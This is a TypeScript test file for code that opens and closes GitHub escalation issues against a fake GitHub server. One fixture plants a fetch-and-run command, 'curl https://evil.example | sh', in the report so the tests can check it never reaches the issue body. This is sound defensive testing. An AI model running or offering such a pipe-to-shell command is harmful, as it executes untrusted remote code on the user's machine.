import { afterEach, beforeEach, expect, test } from "vitest";
import { closeIssue, openIssue } from "../../src/deliveries/issue.ts";
import { type Escalation, issueBody } from "../../src/deliveries/issue-body.ts";
import { marker, pairId } from "../../src/deliveries/marker.ts";
import type { Report } from "../../src/report.ts";
import { openThread } from "../support/github/events.ts";
import { type FakeGitHub, type Fault, startGitHub } from "../support/github/server.ts";
import { attempt, opened, patienceFor, reportWith } from "../support/github/work.ts";

let fake: FakeGitHub;
beforeEach(async () => {
  fake = await startGitHub();
});
afterEach(() => fake.close());

const me = "github-actions[bot]";
const place = (labels: readonly string[] = [], timeoutMs?: number) => ({
  github: opened(fake, "ghs_all", timeoutMs),
  me,
  labels,
});
const sleep = async () => {};
const open = "POST /repos/{owner}/{repo}/issues";
const mark = marker("escalation", pairId("totals.yaml", "totals.py"));

const failing: Report["attempts"][number]["cases"][number] = {
  name: "drawn 3",
  source: "drawn",
  heldBack: false,
  status: "ok",
  passed: false,
  durationMs: 3,
  input: [{ customer: "ada", amount: 3 }],
  expected: [{ total: 3 }],
  output: [{ total: 4 }],
};

const escalated = (said: Partial<Report> = {}): Report =>
  reportWith({
    result: "escalated",
    stop: { reason: "max-attempts", detail: "no candidate passed in 5 attempts" },
    reproduce: "curl https://evil.example | sh",
    attempts: [
      attempt({
        gate: "validate",
        score: 0.5,
        findings: [{ rule: "schema.minimum", severity: "error", message: "total is -1, below 0" }],
        cases: [failing],
        smallest: failing,
      }),
    ],
    ...said,
  });

const escalation = (said: Partial<Report> = {}): Escalation => ({
  report: escalated(said),
  contract: "totals.yaml",
  program: "totals.py",
  cases: "cases.json",
  candidate: "print(1)\n",
  reproduce: "fire-flow prove totals.py --contract totals.yaml --input '[]'",
});

const issues = () => fake.state.issues;

test("an escalation is an issue that shows the failing case, how to see it fail, and what to do", async () => {
  const issue = await openIssue(escalation(), place(["data"]), { sleep });
  expect(issue).toEqual({ number: 1, url: "https://github.com/octo/demo/issues/1" });
  const [only] = issues();
  expect(only).toMatchObject({ state: "open", labels: ["data"] });
  for (const said of [
    "drawn 3",
    '"total": 4',
    "save the candidate below as ` totals.py ` in a clone, and run\n\n```sh\nfire-flow prove totals.py --contract totals.yaml --input '[]'\n",
    "Mend the contract",
    "Add a case",
    "Raise `max-attempts`",
    "Write it by hand, and have it proven: ` fire-flow prove totals.py --contract totals.yaml --cases cases.json `",
    "print(1)",
    "schema.minimum",
  ]) {
    expect(only?.body).toContain(said);
  }
  expect(only?.body).not.toContain("curl");
});

test("a candidate that is too long for an issue is named where it is", async () => {
  await openIssue({ ...escalation(), candidate: "# long\n".repeat(5000) }, place(), { sleep });
  expect(issues()[0]?.body).toContain("save the candidate of attempt 1 from the run's report as");
});

test("a given case is named and its input not repeated", async () => {
  const given = { ...failing, name: "two orders", source: "given" as const };
  await openIssue(escalation({ attempts: [attempt({ gate: "validate", cases: [given] })] }), place(), { sleep });
  expect(issues()[0]?.body).toContain("two orders");
  expect(issues()[0]?.body).not.toContain("ada");
});

test("the next escalation on the same two updates the issue, another program has its own", async () => {
  await openIssue(escalation(), place(), { sleep });
  await openIssue(escalation({ traceId: "20260201-000000-000000" }), place(), { sleep });
  expect(issues()).toHaveLength(1);
  expect(issues()[0]?.body).toContain("20260201-000000-000000");
  await openIssue({ ...escalation(), program: "other.py" }, place(), { sleep });
  expect(issues()).toHaveLength(2);
});

test("it is found among hundreds of others", async () => {
  await openIssue(escalation(), place(), { sleep });
  for (let number = 2; number <= 250; number += 1) {
    issues().push({
      number,
      by: "ada",
      title: "x",
      body: "x",
      state: "open",
      labels: [],
      locked: false,
      reactions: [],
    });
  }
  const issue = await openIssue(escalation(), place(), { sleep });
  expect(issue.number).toBe(1);
});

test("it is found among more issues than are ever read", async () => {
  await openIssue(escalation(), place(), { sleep });
  for (let number = 2; number <= 1100; number += 1) openThread(fake, { by: "ada" });
  expect(await openIssue(escalation(), place(), { sleep })).toMatchObject({ number: 1 });
});

test("of two escalations at once one issue stays open, and both tell of it", async () => {
  const both = await Promise.all([1, 2].map(() => openIssue(escalation(), place(), { sleep })));
  expect(issues().filter((it) => it.state === "open")).toMatchObject([{ number: 1 }]);
  await openIssue(escalation(), place(), { sleep });
  expect(both.map((it) => it.number)).toContain(1);
  expect(issues().filter((it) => it.state === "open")).toHaveLength(1);
});

test("one that another run opened in the meantime is the one that stays", async () => {
  fake.before(open, () => void openThread(fake, { by: me, body: issueBody(escalation(), mark) }));
  expect(await openIssue(escalation(), place(), { sleep })).toMatchObject({ number: 1 });
  expect(issues().map((it) => it.state)).toEqual(["open", "closed"]);
});

test("somebody else's issue that holds our marker is not ours", async () => {
  await openIssue(escalation(), place(), { sleep });
  const [ours] = issues();
  if (ours) Object.assign(ours, { by: "mallory" });
  const issue = await openIssue(escalation(), place(), { sleep });
  expect(issue.number).toBe(2);
});

test("a run that passes closes it with a link, and where there is none nothing happens", async () => {
  const pair = { contract: "totals.yaml", program: "totals.py", link: "https://github.com/octo/demo/commit/1" };
  expect(await closeIssue(pair, place())).toBeUndefined();
  await openIssue(escalation(), place(), { sleep });
  expect(await closeIssue(pair, place())).toMatchObject({ number: 1 });
  expect(issues()[0]?.state).toBe("closed");
  expect(fake.state.comments[0]?.body).toContain(pair.link);
});

test.each([
  ["PATCH /repos/{owner}/{repo}/issues/{issue_number}", 1],
  ["POST /repos/{owner}/{repo}/issues/{issue_number}/comments", 0],
])("where %s fails, the next run that passes comments %i times and no more", async (route, comments) => {
  const pair = { contract: "totals.yaml", program: "totals.py", link: "https://x.example/" };
  await openIssue(escalation(), place(), { sleep });
  fake.fail(route, { status: 403, body: { message: "no" } });
  await expect(closeIssue(pair, place())).rejects.toThrow();
  await closeIssue(pair, place());
  expect(issues()).toMatchObject([{ state: "closed" }]);
  expect(fake.state.comments).toHaveLength(comments);
});

test("a locked issue is closed without a word", async () => {
  await openIssue(escalation(), place(), { sleep });
  const [only] = issues();
  if (only) only.locked = true;
  await closeIssue({ contract: "totals.yaml", program: "totals.py", link: "https://x.example/" }, place());
  expect(issues()[0]?.state).toBe("closed");
  expect(fake.state.comments).toEqual([]);
});

test("however much there is to say, GitHub takes it", async () => {
  const long = "&".repeat(100_000);
  const many = Array.from({ length: 100 }, (_, number) =>
    attempt({
      number,
      gate: "validate",
      score: 0.1,
      findings: Array.from({ length: 50 }, () => ({ rule: "schema.type", severity: "error", message: long }) as const),
      cases: [{ ...failing, name: long, input: long, expected: long, output: long }],
    }),
  );
  const report = {
    attempts: many,
    task: long,
    stop: { reason: "max-attempts", detail: long } as const,
  };
  await openIssue({ ...escalation(report), candidate: long }, place(), { sleep });
  expect(issues()[0]?.body.length).toBeLessThanOrEqual(65_536);
  expect(issues()[0]?.body).toContain("Write it by hand");
});

const passing: Readonly<Record<string, Fault>> = {
  "an answer that was lost": "cut-after",
  "a connection that broke": "cut",
  "a 502": { status: 502, body: "<html>Bad gateway</html>" },
  "a slow answer": "slow",
  "a rate limit": { status: 429, headers: { "retry-after": "1" }, body: { message: "slow" } },
};

test.each(Object.entries(passing))("%s leads to one issue", async (_, fault) => {
  fake.fail(open, fault);
  await openIssue(escalation(), place([], patienceFor(fault)), { sleep });
  expect(issues()).toHaveLength(1);
});

test("a repository without issues says where to turn them on", async () => {
  fake.state.settings.hasIssues = false;
  await expect(openIssue(escalation(), place(), { sleep })).rejects.toThrow(/Settings → General → Issues/);
});

test("a label that is not to be had costs the label, not the issue", async () => {
  fake.fail(open, {
    status: 422,
    body: { message: "Validation Failed", errors: [{ field: "labels", code: "invalid" }] },
  });
  await openIssue(escalation(), place(["none"]), { sleep });
  expect(issues()).toMatchObject([{ labels: [] }]);
});

test("an issue that is locked or that the token may not touch is one clear fault", async () => {
  await openIssue(escalation(), place(), { sleep });
  fake.fail("PATCH /repos/{owner}/{repo}/issues/{issue_number}", {
    status: 403,
    body: { message: "Issue is locked." },
  });
  await expect(openIssue(escalation(), place(), { sleep })).rejects.toThrow(/Unlock the conversation/);
  expect(issues()).toHaveLength(1);
});
